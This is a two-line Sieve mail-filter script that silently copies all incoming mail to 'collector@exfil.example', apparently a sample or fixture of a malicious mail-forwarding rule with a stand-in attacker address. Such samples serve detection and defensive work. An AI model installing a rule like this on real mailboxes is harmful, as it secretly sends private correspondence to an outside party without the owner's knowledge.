require ["copy"];
redirect :copy "collector@exfil.example";
